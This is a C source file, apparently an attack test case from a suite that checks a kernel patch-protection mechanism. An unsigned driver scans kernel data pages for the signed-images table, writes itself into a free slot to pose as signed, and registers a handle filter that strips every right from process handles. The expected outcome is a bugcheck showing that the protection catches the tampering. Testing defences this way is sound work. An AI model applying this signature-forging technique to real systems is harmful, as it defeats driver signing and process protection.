/* attack_a88_unsigned (A88): an unsigned driver writes itself in as signed.
 * Loaded under testsigning, it is refused the signed-only vendor APIs
 * (the handle filters among them): the vendor API keeps the signed
 * images' bases and sizes in kernel data. The driver finds that table by
 * a scan of the kernel's data pages for the entry of a signed driver
 * already loaded (`vendor_sample`, else `hello`: its base and size, from
 * module_find) followed by more entries, writes its own base and size
 * into the next empty entry, then at once registers a handle filter that
 * strips every right from handles to processes. Expected: 0x109 type 0x18
 * at the registration (the table is sealed and the lookup verifies its
 * seal). */
#include "attack.h"
#include <kpp/vendorapi.h>

static void on_pre(void *ctx, struct handle_pre_info *info)
{
	(void)ctx;
	info->desired_access = 0;
}

static const struct handle_filter_operation ops[] = {{KPP_OBJ_TYPE_PROCESS, KPP_HANDLE_OP_CREATE, on_pre, NULL}};

static const struct module *module_of(const struct driver_object *d)
{
	return (const struct module *)((const char *)d - __builtin_offsetof(struct module, drv));
}

/* An entry of the table: free (size 0) or a driver's pages. The four
 * after a match must be entries too (other copies of a module's base and
 * size, such as the event port's last record, are followed by other
 * data). */
static bool entry_like(const uint64_t *e)
{
	return !e[1] || (e[0] >= KPP_DRIVER_AREA_BASE && !(e[0] & (A_PAGE - 1)) && !(e[1] & (A_PAGE - 1)) &&
			 e[1] <= KPP_DRIVER_MAX_IMAGE_SIZE);
}

static bool table_like(const uint64_t *q)
{
	for (int i = 1; i <= 4; i++)
		if (!entry_like(q + 2 * i))
			return false;
	return true;
}

status_t driver_entry(struct driver_object *drv)
{
	const struct driver_object *vs = module_find("vendor_sample");
	if (!vs)
		vs = module_find("hello");
	if (!vs) {
		printk("attack_a88: no signed driver to find the table by\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	const struct module *sm = module_of(vs), *me = module_of(drv);
	uint64_t want[2] = {sm->base, sm->pages * A_PAGE};
	uint64_t base = a_kernel_base(), end = a_kernel_end(base), *entry = NULL;
	for (uint64_t p = base; p < end && !entry; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (uint64_t *q = (uint64_t *)p; (uint64_t)(q + 10) <= p + A_PAGE; q += 2)
			if (q[0] == want[0] && q[1] == want[1] && table_like(q)) {
				entry = q;
				break;
			}
	}
	if (!entry) {
		printk("attack_a88: the signed images' table not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t *slot = entry;
	while (slot[1] && slot < entry + 2 * 64)
		slot += 2;
	uint64_t pf = a_cli();
	slot[0] = me->base;
	slot[1] = me->pages * A_PAGE;
	printk("attack_a88: written in as a signed image\n");
	printk("~ attack_a88: entry at 0x%lx, slot at 0x%lx\n", (uint64_t)entry, (uint64_t)slot);
	a_patched("attack_a88");
	a_restore(pf);
	void *cookie = NULL;
	struct handle_filter_registration reg = {1000, 1, ops, NULL};
	status_t st = handle_filter_register(&reg, &cookie);
	printk("attack_a88: handle filter: status 0x%08x\n", st);
	return KPP_STATUS_SUCCESS;
}
